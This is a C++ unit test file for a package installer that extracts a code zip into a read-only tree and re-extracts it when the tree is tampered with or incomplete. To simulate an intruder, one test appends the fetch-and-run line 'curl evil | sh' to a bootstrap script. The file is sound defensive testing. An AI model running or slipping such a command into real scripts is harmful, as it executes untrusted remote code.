#include "package/code_tree.h"

#include <gtest/gtest.h>
#include <sys/stat.h>

#include <filesystem>
#include <fstream>

#include "common/fs.h"
#include "package/zip_io.h"

namespace mlfaas::package {
namespace {

namespace fs = std::filesystem;

constexpr char kDigest[] = "0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef";

class CodeTreeTest : public ::testing::Test {
 protected:
  void SetUp() override {
    auto z = internal::BuildZip(
        {{"bootstrap", "#!/bin/sh\necho hi\n", 0755}, {"lib/data.txt", "data", 0644}});
    ASSERT_TRUE(z.ok()) << z.status().ToString();
    zip_ = tmp_.path() / "code.zip";
    ASSERT_TRUE(WriteFileAtomic(zip_, *z).ok());
    root_ = tmp_.path() / "code";
  }
  // Lets the test edit a read-only tree, as an intruder with the same uid could.
  static void Writable(const fs::path& p) {
    fs::permissions(p, fs::perms::owner_write, fs::perm_options::add);
  }

  TempDir tmp_{"mlfaas-code-tree"};
  fs::path zip_, root_;
};

TEST_F(CodeTreeTest, InstallsReadOnlyWithARecordAndReusesAnIntactTree) {
  auto dir = InstallCodeTree(zip_, root_, kDigest);
  ASSERT_TRUE(dir.ok()) << dir.status().ToString();
  EXPECT_EQ(*dir, root_ / kDigest);
  struct stat st {};
  ASSERT_EQ(stat((*dir / "bootstrap").c_str(), &st), 0);
  EXPECT_EQ(st.st_mode & 0777, 0555u);
  ASSERT_EQ(stat((*dir / "lib" / "data.txt").c_str(), &st), 0);
  EXPECT_EQ(st.st_mode & 0777, 0444u);
  ASSERT_EQ(stat((*dir / "lib").c_str(), &st), 0);
  EXPECT_EQ(st.st_mode & 0777, 0555u);
  auto record = ReadFile(root_ / (std::string(kDigest) + ".tree"));
  ASSERT_TRUE(record.ok());
  EXPECT_EQ(*record, *TreeDigest(*dir));

  const auto inode = fs::status(*dir / "bootstrap").type();  // still the same tree afterwards
  auto again = InstallCodeTree(zip_, root_, kDigest);
  ASSERT_TRUE(again.ok());
  EXPECT_EQ(fs::status(*again / "bootstrap").type(), inode);
}

TEST_F(CodeTreeTest, AnEditedOrIncompleteTreeIsExtractedAnew) {
  auto dir = InstallCodeTree(zip_, root_, kDigest);
  ASSERT_TRUE(dir.ok());
  const std::string intact = *TreeDigest(*dir);

  Writable(*dir / "bootstrap");
  std::ofstream(*dir / "bootstrap", std::ios::app) << "curl evil | sh\n";
  EXPECT_NE(*TreeDigest(*dir), intact);
  ASSERT_TRUE(InstallCodeTree(zip_, root_, kDigest).ok());
  EXPECT_EQ(*TreeDigest(*dir), intact);
  EXPECT_EQ(*ReadFile(*dir / "bootstrap"), "#!/bin/sh\necho hi\n");

  Writable(*dir / "lib");
  fs::remove(*dir / "lib" / "data.txt");
  ASSERT_TRUE(InstallCodeTree(zip_, root_, kDigest).ok());
  EXPECT_EQ(*TreeDigest(*dir), intact);

  fs::remove(root_ / (std::string(kDigest) + ".tree"));  // no record: not trusted either
  ASSERT_TRUE(InstallCodeTree(zip_, root_, kDigest).ok());
  EXPECT_EQ(*ReadFile(root_ / (std::string(kDigest) + ".tree")), intact);
  for (const auto& e : fs::directory_iterator(root_)) {
    EXPECT_FALSE(e.path().filename().string().starts_with(".")) << "left behind: " << e.path();
  }
}

TEST_F(CodeTreeTest, ACorruptZipInstallsNothing) {
  ASSERT_TRUE(WriteFileAtomic(zip_, "PK\x03\x04 not really a zip").ok());
  auto dir = InstallCodeTree(zip_, root_, kDigest);
  EXPECT_FALSE(dir.ok());
  EXPECT_FALSE(fs::exists(root_ / kDigest));
  std::error_code ec;
  for (const auto& e : fs::directory_iterator(root_, ec)) ADD_FAILURE() << "left: " << e.path();
}

}  // namespace
}  // namespace mlfaas::package
